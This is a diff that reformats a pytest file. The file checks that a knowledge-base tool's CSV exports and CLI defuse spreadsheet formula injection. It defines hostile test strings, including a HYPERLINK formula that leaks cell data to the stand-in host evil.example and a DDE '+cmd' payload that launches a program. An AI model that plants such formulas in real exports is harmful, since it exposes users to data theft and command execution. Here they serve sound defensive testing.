@@ -16,11 +16,11 @@ from pathlib import Path
 
 import pytest
 from click.testing import CliRunner
-
 from conftest import REGISTRY, write
+from sitekit import copy_site_files
+
 from kb.cli import main
 from kb.util.formats import formula_like, inert, to_csv, to_json
-from sitekit import copy_site_files
 
 LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 CMD = "+cmd|' /C calc'!A0"
@@ -33,11 +33,14 @@ def q(text: str) -> str:
     return json.dumps(text)  # a YAML double-quoted string
 
 
-HOSTILE_REGISTRY = REGISTRY.replace("disclaimers:", f"""\
+HOSTILE_REGISTRY = REGISTRY.replace(
+    "disclaimers:",
+    f"""\
   - {{id: hostile-org, name: {q(LINK)}, kind: organisation, acronyms: [{q(AT)}], country: GB,
      description: {q(CMD)}}}
   - {{id: hostile-sector, name: {q(SUM)}, kind: sector, country: null}}
-disclaimers:""")
+disclaimers:""",
+)
 
 HOSTILE_REPORT = f"""\
 ---
@@ -94,10 +97,16 @@ def csvs(tmp_path_factory) -> dict[str, str]:
     for args in (("build",), ("export", "--out", str(root / "data"))):
         result = kb(root, *args)
         assert result.exit_code == 0, result.output
-    found = {f"site:{p.name}": p.read_text(encoding="utf-8") for p in (root / "site" / "kb" / "api").glob("*.csv")}
+    found = {
+        f"site:{p.name}": p.read_text(encoding="utf-8") for p in (root / "site" / "kb" / "api").glob("*.csv")
+    }
     found |= {f"export:{p.name}": p.read_text(encoding="utf-8") for p in (root / "data").glob("*.csv")}
-    for name, args in {"search": ("search", "Korea"), "opportunities": ("opportunities",),
-                       "targets": ("targets",), "related": ("related", "2015-01-01-health")}.items():
+    for name, args in {
+        "search": ("search", "Korea"),
+        "opportunities": ("opportunities",),
+        "targets": ("targets",),
+        "related": ("related", "2015-01-01-health"),
+    }.items():
         result = kb(root, *args, "--format", "csv")
         assert result.exit_code == 0, result.output
         found[f"cli:{name}"] = result.stdout_bytes.decode("utf-8")
@@ -110,9 +119,19 @@ def cells(text: str) -> list[str]:
 
 
 def test_every_csv_was_written_and_holds_rows(csvs):
-    assert sorted(csvs) == sorted([*(f"{where}:{t}.csv" for where in ("site", "export")
-                                     for t in ("entities", "opportunities", "reports", "targets")),
-                                   "cli:search", "cli:opportunities", "cli:targets", "cli:related"])
+    assert sorted(csvs) == sorted(
+        [
+            *(
+                f"{where}:{t}.csv"
+                for where in ("site", "export")
+                for t in ("entities", "opportunities", "reports", "targets")
+            ),
+            "cli:search",
+            "cli:opportunities",
+            "cli:targets",
+            "cli:related",
+        ]
+    )
     assert all(len(list(csv.reader(io.StringIO(t[1:])))) >= 2 for t in csvs.values())
 
 
@@ -121,18 +140,31 @@ def test_no_cell_of_any_csv_starts_like_a_formula(csvs):
     assert bad == []
 
 
-@pytest.mark.parametrize("field, where, payload", [
-    ("title", "site:reports.csv", LINK), ("summary", "export:reports.csv", CMD),
-    ("visit_places", "export:reports.csv", SUM), ("authors", "site:reports.csv", AT),
-    ("visitors", "export:reports.csv", CMD), ("source_publisher", "export:reports.csv", CMD),
-    ("licence", "site:reports.csv", AT), ("name", "export:entities.csv", LINK),
-    ("description", "site:entities.csv", CMD), ("acronyms", "export:entities.csv", AT),
-    ("name", "site:entities.csv", SUM), ("title", "export:opportunities.csv", LINK),
-    ("next_step", "site:opportunities.csv", CMD), ("description", "export:opportunities.csv", AT),
-    ("what", "site:targets.csv", SUM), ("unit", "export:targets.csv", AT),
-    ("title", "cli:search", LINK), ("title", "cli:opportunities", LINK), ("what", "cli:targets", SUM),
-    ("title", "cli:related", LINK),
-])
+@pytest.mark.parametrize(
+    "field, where, payload",
+    [
+        ("title", "site:reports.csv", LINK),
+        ("summary", "export:reports.csv", CMD),
+        ("visit_places", "export:reports.csv", SUM),
+        ("authors", "site:reports.csv", AT),
+        ("visitors", "export:reports.csv", CMD),
+        ("source_publisher", "export:reports.csv", CMD),
+        ("licence", "site:reports.csv", AT),
+        ("name", "export:entities.csv", LINK),
+        ("description", "site:entities.csv", CMD),
+        ("acronyms", "export:entities.csv", AT),
+        ("name", "site:entities.csv", SUM),
+        ("title", "export:opportunities.csv", LINK),
+        ("next_step", "site:opportunities.csv", CMD),
+        ("description", "export:opportunities.csv", AT),
+        ("what", "site:targets.csv", SUM),
+        ("unit", "export:targets.csv", AT),
+        ("title", "cli:search", LINK),
+        ("title", "cli:opportunities", LINK),
+        ("what", "cli:targets", SUM),
+        ("title", "cli:related", LINK),
+    ],
+)
 def test_each_hostile_field_comes_out_behind_an_apostrophe(csvs, field, where, payload):
     rows = list(csv.DictReader(io.StringIO(csvs[where][1:], newline="")))
     values = [row[field] for row in rows if field in row]
@@ -143,14 +175,31 @@ def test_each_hostile_field_comes_out_behind_an_apostrophe(csvs, field, where, p
 def test_plain_negative_numbers_stay_numbers(csvs):
     rows = list(csv.DictReader(io.StringIO(csvs["export:targets.csv"][1:], newline="")))
     assert [row["value"] for row in rows] == ["-3"]
-    assert b'"kr-t","\'-1+1",-3\r\n' in to_csv([{"id": "kr-t", "what": SUM, "value": -3}], ["id", "what", "value"])
+    assert b'"kr-t","\'-1+1",-3\r\n' in to_csv(
+        [{"id": "kr-t", "what": SUM, "value": -3}], ["id", "what", "value"]
+    )
 
 
-@pytest.mark.parametrize("text, expected", [
-    (LINK, "'" + LINK), (CMD, "'" + CMD), (SUM, "'" + SUM), (AT, "'" + AT), ("\tx", "'\tx"), ("\rx", "'\rx"),
-    ("  =1+1", "'  =1+1"), ("\n=1+1", "'\n=1+1"), ("\uff1d1+1", "'\uff1d1+1"), ("-3", "-3"), ("-2.5", "-2.5"),
-    ("-", "'-"), ("Korea", "Korea"), ("", ""), ("a=b", "a=b"),
-])
+@pytest.mark.parametrize(
+    "text, expected",
+    [
+        (LINK, "'" + LINK),
+        (CMD, "'" + CMD),
+        (SUM, "'" + SUM),
+        (AT, "'" + AT),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("  =1+1", "'  =1+1"),
+        ("\n=1+1", "'\n=1+1"),
+        ("\uff1d1+1", "'\uff1d1+1"),
+        ("-3", "-3"),
+        ("-2.5", "-2.5"),
+        ("-", "'-"),
+        ("Korea", "Korea"),
+        ("", ""),
+        ("a=b", "a=b"),
+    ],
+)
 def test_the_inert_rule(text, expected):
     assert inert(text) == expected
 
@@ -170,6 +219,8 @@ def test_the_json_writer_refuses_numbers_json_cannot_hold():
 def test_new_refuses_a_title_that_looks_like_a_formula(run, kb_tree):
     result = run("new", "--title", LINK, "--date", "2024-01-02", "--country", "KR")
     assert result.exit_code == 2
-    assert result.stderr == ("error: the title starts with '=', like a spreadsheet formula: probably pasted "
-                             "by accident (retype the title, starting with a word)\n")
+    assert result.stderr == (
+        "error: the title starts with '=', like a spreadsheet formula: probably pasted "
+        "by accident (retype the title, starting with a word)\n"
+    )
     assert sorted(p.name for p in (kb_tree / "reports" / "kr").iterdir()) == ["2014-07-03-korea-open-data.md"]
